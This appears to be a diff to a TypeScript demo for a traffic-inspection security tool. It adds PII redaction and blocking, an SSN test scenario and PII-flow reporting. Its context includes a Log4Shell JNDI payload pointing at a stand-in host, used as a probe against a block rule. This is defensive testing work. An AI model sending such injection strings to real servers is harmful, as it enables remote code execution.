@@ -25,6 +25,11 @@ const POLICY = {
     { id: "no-jndi", action: "block", match: { header: { name: "user-agent", contains: "${jndi:" } } },
     { id: "debug-header", action: "alert", match: { header: { name: "x-debug", equals: "1" } } },
   ],
+  // PII: card numbers and emails are masked in responses; an SSN sent to a service is blocked; the rest alerts.
+  actions: {
+    default: { request: "alert", response: "alert" },
+    pii: { card: { request: "alert", response: "redact" }, email: { request: "alert", response: "redact" }, ssn: { request: "block", response: "redact" } },
+  },
 };
 
 interface Scenario { service: string; method: string; path: string; body?: unknown; headers?: Record<string, string>; label: string }
@@ -38,6 +43,7 @@ const SCENARIOS: Scenario[] = [
   { service: "frontend", method: "GET", path: "/admin/users", label: "admin panel probe" },
   { service: "payments", method: "GET", path: "/health", headers: { "user-agent": "${jndi:ldap://evil.example/a}" }, label: "Log4Shell probe in User-Agent" },
   { service: "orders", method: "GET", path: "/orders/1002", headers: { "x-debug": "1" }, label: "debug header (alert only)" },
+  { service: "payments", method: "POST", path: "/charge", body: { amount: 20, ssn: "123-45-6789" }, label: "SSN sent to payments (blocked)" },
 ];
 
 const COLLECTOR_CLUSTER = "outbound|9080||l7guard-manager.l7guard-system.svc.cluster.local";
@@ -126,7 +132,7 @@ async function startServices(): Promise<DemoService[]> {
       },
     }),
     await startService("shop", "orders", {
-      "GET /orders/{id}": (req) => ({ status: 200, body: { id: Number(req.path.split("/")[2]), status: "shipped", customer: { email: "bob@example.com" } } }),
+      "GET /orders/{id}": (req) => ({ status: 200, body: { id: Number(req.path.split("/")[2]), status: "shipped", customer: { email: "bob@example.com" }, card: "4111 1111 1111 1111" } }),
       "POST /orders": async (req, ctx) => {
         const charge = await ctx.call("payments", "POST", "/charge", { amount: 150, card: req.json?.card });
         return { status: charge.status < 300 ? 201 : 502, body: { id: 1000 + Math.floor(Math.random() * 1000), payment: charge.body } };
@@ -173,7 +179,9 @@ export async function main(argv: string[]): Promise<void> {
       if (verdict === "block") tally.blocked++; else if (verdict === "alert") tally.alerted++; else tally.passed++;
       let detail = "";
       if (verdict === "block") { try { const b = JSON.parse(r.body); detail = ` rule=${b.rule ?? b.class} requestId=${b.requestId}`; } catch { /* not JSON */ } }
+      if (verdict === "block") { try { const b = JSON.parse(r.body); if (b.class === "pii") detail = ` pii=${b.type} requestId=${b.requestId}`; } catch { /* not JSON */ } }
       console.log(`${s.method.padEnd(4)} ${s.service}${s.path.padEnd(14)} -> ${r.status} ${verdict.padEnd(5)}${detail}  (${r.ms.toFixed(1)} ms)  ${s.label}`);
+      if (s.path.startsWith("/orders/") && r.status === 200) console.log(`     response as the client sees it: ${r.body}`);
     } catch (e) {
       tally.errors++;
       console.log(`${s.method} ${s.service}${s.path} -> error ${(e as Error).message}`);
@@ -191,6 +199,9 @@ export async function main(argv: string[]): Promise<void> {
   for (const e of graph.edges) console.log(`  ${e.source} -> ${e.destination}: ${e.count} requests, ${e.blocked} blocked, avg ${e.latencyMsAvg.toFixed(1)} ms`);
   console.log(`API inventory:`);
   for (const e of endpoints.endpoints) console.log(`  ${e.service.padEnd(14)} ${e.method.padEnd(5)} ${e.pathTemplate}  (${e.count})`);
+  const pii = await api(demo, "/api/v1/pii");
+  console.log(`PII data flows:`);
+  for (const f of pii.flows) console.log(`  ${f.type.padEnd(6)} ${f.source} -> ${f.destination} (${f.direction}, ${f.count})`);
   console.log(`latest events:`);
   for (const e of events.events) console.log(`  ${e.action} ${e.category}:${e.type} ${e.method ?? ""} ${e.pathTemplate ?? ""} from ${e.source}`);
   for (const s of services) { s.server.close(); s.server.closeAllConnections(); }
